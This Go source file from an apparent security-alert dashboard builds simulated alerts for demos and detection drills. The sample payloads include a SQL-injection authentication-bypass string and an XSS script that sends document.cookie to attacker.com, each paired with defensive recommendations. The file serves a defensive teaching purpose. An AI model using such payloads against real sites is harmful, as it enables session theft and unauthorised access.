package threatlens

import "time"

// SimulationKinds lists the seedable alert kinds, keyed by URL slug.
var SimulationKinds = []string{"sql-injection", "xss", "brute-force", "suspicious-ip", "scanner"}

// SimulatedAlert returns a fully enriched sample alert for dashboard
// demos and detection drills. Unknown kinds return nil.
func SimulatedAlert(kind string) *Alert {
	var a *Alert
	switch kind {
	case "sql-injection":
		a = &Alert{
			Category:    CategorySQLInjection,
			Severity:    SeverityCritical,
			Message:     "SQL Injection attempt detected in database query",
			SourceIP:    "192.168.1.100",
			RequestPath: "/api/users",
			Payload:     `admin' OR '1'='1' -- SELECT * FROM users WHERE username='`,
			ThreatSource: ThreatSource{
				DetectionSource:  "Security Scanner",
				SourceIP:         "192.168.1.100",
				SourcePath:       "/api/users/search?q=",
				TargetURL:        "http://localhost:3000/api/users",
				SourceCountry:    "N/A",
				SourceReputation: "Malicious",
			},
			Analysis: Analysis{
				AttackVector: "SQL query manipulation via user input",
				Confidence:   95,
				AIAnalysis:   "Classic SQL injection attack attempting to bypass authentication",
				Recommendations: []string{
					"Use parameterized queries",
					"Implement input validation",
					"Enable WAF protection",
				},
			},
		}
	case "xss":
		a = &Alert{
			Category:    CategoryXSS,
			Severity:    SeverityHigh,
			Message:     "Cross-Site Scripting (XSS) vulnerability detected",
			SourceIP:    "10.0.0.50",
			RequestPath: "/dashboard",
			Payload:     `<script>fetch("https://attacker.com/steal?cookie=" + document.cookie)</script>`,
			ThreatSource: ThreatSource{
				DetectionSource:  "Threat Detector",
				SourceIP:         "10.0.0.50",
				SourcePath:       "/dashboard?name=",
				TargetURL:        "http://localhost:3000/dashboard",
				SourceCountry:    "N/A",
				SourceReputation: "Suspicious",
			},
			Analysis: Analysis{
				AttackVector: "Malicious script injection in DOM",
				Confidence:   88,
				AIAnalysis:   "XSS payload attempting to steal user session cookies",
				Recommendations: []string{
					"Sanitize user input with DOMPurify",
					"Implement Content Security Policy",
					"Use HttpOnly cookies",
				},
			},
		}
	case "brute-force":
		a = &Alert{
			Category:    CategoryBruteForce,
			Severity:    SeverityHigh,
			Message:     "Brute force attack detected on authentication endpoint",
			SourceIP:    "203.0.113.50",
			RequestPath: "/api/auth/login",
			Payload:     "Failed login attempts: 250 in 10 minutes from single IP",
			ThreatSource: ThreatSource{
				DetectionSource:  "API Monitor",
				SourceIP:         "203.0.113.50",
				SourcePath:       "/api/auth/login",
				TargetURL:        "http://localhost:3000/api/auth/login",
				SourceCountry:    "CN",
				SourceReputation: "Malicious",
			},
			Analysis: Analysis{
				AttackVector: "Automated credential guessing",
				Confidence:   99,
				AIAnalysis:   "High-velocity login attempts matching known brute-force patterns",
				Recommendations: []string{
					"Implement rate limiting",
					"Enable account lockout",
					"Deploy CAPTCHA verification",
					"Use 2FA authentication",
				},
			},
		}
	case "suspicious-ip":
		a = &Alert{
			Category:    CategorySuspiciousIP,
			Severity:    SeverityMedium,
			Message:     "Suspicious IP accessing admin endpoints",
			SourceIP:    "198.51.100.70",
			RequestPath: "/api/admin",
			Payload:     "Multiple requests to restricted admin endpoints detected",
			ThreatSource: ThreatSource{
				DetectionSource:  "Firewall",
				SourceIP:         "198.51.100.70",
				SourcePath:       "/api/admin/users",
				TargetURL:        "http://localhost:3000/api/admin",
				SourceCountry:    "RU",
				SourceReputation: "Suspicious",
			},
			Analysis: Analysis{
				AttackVector: "Unauthorized endpoint enumeration",
				Confidence:   75,
				AIAnalysis:   "IP attempting to access admin resources without proper authorization",
				Recommendations: []string{
					"Block IP at firewall",
					"Enable admin IP whitelist",
					"Monitor for privilege escalation",
				},
			},
		}
	case "scanner":
		a = &Alert{
			Category:    CategoryScannerActivity,
			Severity:    SeverityMedium,
			Message:     "Automated vulnerability scanner detected",
			SourceIP:    "192.0.2.60",
			RequestPath: "/",
			Payload:     "Nmap port scan detected on ports: 80, 443, 3000, 5000, 8080",
			ThreatSource: ThreatSource{
				DetectionSource:  "Firewall",
				SourceIP:         "192.0.2.60",
				SourcePath:       "/*",
				TargetURL:        "http://localhost:3000",
				SourceCountry:    "N/A",
				SourceReputation: "Unknown",
			},
			Analysis: Analysis{
				AttackVector: "Network reconnaissance and port enumeration",
				Confidence:   92,
				AIAnalysis:   "Nmap-style network scanning indicating pre-attack reconnaissance",
				Recommendations: []string{
					"Block scanning IPs",
					"Implement intrusion detection",
					"Configure firewall rules",
				},
			},
		}
	default:
		return nil
	}
	a.Status = StatusActive
	a.Timestamp = time.Now()
	return a
}
